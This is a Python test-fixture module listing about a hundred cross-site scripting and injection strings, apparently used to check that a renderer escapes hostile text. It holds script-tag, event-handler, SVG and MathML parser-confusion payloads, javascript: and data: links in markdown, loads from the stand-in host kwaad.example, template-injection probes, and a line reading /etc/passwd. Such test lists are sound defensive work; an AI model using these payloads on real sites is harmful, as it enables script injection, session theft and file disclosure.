"""Texts that try to be run: our own collection, one a line, each of which would set ``window.ran`` or ask for something.

They are written into every text of a plan; what a reader sees is the characters, in whatever way they are read.
"""

from __future__ import annotations

HOSTILE = tuple(
    r"""
<script>window.ran = 1</script>
<ScRiPt >window.ran = 1</ScRiPt >
<script src="https://kwaad.example/x.js"></script>
<script type="module">window.ran = 1</script>
<script type="speculationrules">{"prefetch": [{"urls": ["https://kwaad.example/"]}]}</script>
<script type="importmap">{"imports": {"x": "https://kwaad.example/x.js"}}</script>
</script><script>window.ran = 1</script>
</style><script>window.ran = 1</script>
</title><script>window.ran = 1</script>
</textarea><script>window.ran = 1</script>
</select></option><img src=x onerror=window.ran=1>
</template><img src=x onerror=window.ran=1>
--></script><img src=x onerror=window.ran=1>
<!--<img src="--><img src=x onerror=window.ran=1>//">
<![CDATA[<img src=x onerror=window.ran=1>]]>
<?xml version="1.0"?><img src=x onerror=window.ran=1>
<img src=x onerror=window.ran=1>
<img src=x onerror="window.ran=1"//
<img/src=`x`onerror=window.ran=1>
<img src="https://kwaad.example/p.png">
<img srcset="https://kwaad.example/p.png 2x">
<picture><source srcset="https://kwaad.example/p.png"><img></picture>
<svg onload=window.ran=1>
<svg><script>window.ran=1</script></svg>
<svg><script href="https://kwaad.example/x.js"></script></svg>
<svg><a xlink:href="javascript:window.ran=1"><text y="20">klik</text></a></svg>
<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>
<svg><set attributeName="href" to="javascript:window.ran=1"></svg>
<svg><use href="https://kwaad.example/x.svg#a"></use></svg>
<svg><style><img src=x onerror=window.ran=1></style></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>
<svg></p><style><a title="</style><img src=x onerror=window.ran=1>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.ran=1&gt;">
<math href="javascript:window.ran=1">klik</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=window.ran=1></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>">
<xmp><p title="</xmp><img src=x onerror=window.ran=1>">
<noembed><img src=x onerror=window.ran=1></noembed>
<plaintext><img src=x onerror=window.ran=1>
<table><td><form><p></td><img src=x onerror=window.ran=1></table>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.ran=1>
<iframe src="javascript:parent.ran=1"></iframe>
<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>
<object data="javascript:window.ran=1"></object>
<object data="data:text/html,<script>parent.ran=1</script>"></object>
<embed src="https://kwaad.example/x.swf">
<link rel="stylesheet" href="https://kwaad.example/x.css">
<link rel="prefetch" href="https://kwaad.example/x">
<base href="https://kwaad.example/">
<meta http-equiv="refresh" content="0;url=https://kwaad.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import "https://kwaad.example/x.css"; body { background: url(https://kwaad.example/x.png) }</style>
<p style="background:url(https://kwaad.example/x.png)">tekst</p>
<details open ontoggle=window.ran=1>tekst</details>
<input autofocus onfocus=window.ran=1>
<button popovertarget=x>x</button><div id=x popover onbeforetoggle=window.ran=1></div>
<marquee onstart=window.ran=1>tekst</marquee>
<video src="https://kwaad.example/x.mp4" autoplay></video>
<audio src=x onerror=window.ran=1></audio>
<body onload=window.ran=1 onhashchange=window.ran=1>
<a href="javascript:window.ran=1">klik</a>
<a name="bar" id="_elz-bar">tekst</a>
<form id="_elz-main" name="getElementById"><input name="querySelectorAll"></form>
<template id="_elz-details"><img src=x onerror=window.ran=1></template>
<template shadowrootmode="open"><img src=x onerror=window.ran=1></template>
" onmouseover="window.ran=1" x="
' onfocus='window.ran=1' tabindex=0 autofocus '
"><img src=x onerror=window.ran=1>
'><svg onload=window.ran=1>
` onerror=window.ran=1 `
[klik](javascript:window.ran=1)
[klik](JaVaScRiPt:window.ran=1)
[klik](java&#115;cript:window.ran=1)
[klik](java%0ascript:window.ran=1)
[klik](<java	script:window.ran=1>)
[klik](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)
[klik](vbscript:ran)
[klik](//kwaad.example)
[klik](\\kwaad.example\x)
[klik](https://goed.example/" onclick="window.ran=1)
[klik](https://goed.example/'onclick='window.ran=1)
[klik](https://goed.example@kwaad.example/)
[x]: javascript:window.ran=1
<javascript:window.ran=1>
![foto](javascript:window.ran=1)
![foto](https://kwaad.example/p.png)
![" onerror="window.ran=1](x)
[[koffie|<img src=x onerror=window.ran=1>]]
[[" onclick="window.ran=1]]
`<img src=x onerror=window.ran=1>`
**<svg onload=window.ran=1>**
&lt;script&gt;window.ran=1&lt;/script&gt;
&#60;img src=x onerror=window.ran=1&#62;
\u003cimg src=x onerror=window.ran=1\u003e
\x3cscript\x3ewindow.ran=1\x3c/script\x3e
＜script＞window.ran=1＜/script＞
{{ ''.__class__.__mro__ }} {% raw %} {{ style }} {# #}
{{constructor.constructor('window.ran=1')()}}
${window.ran = 1} #{window.ran = 1} <%= 1 %>
javascript:window.ran=1
#read("/etc/passwd") #import "@preview/x:1.0.0"
""".strip().split("\n")
)
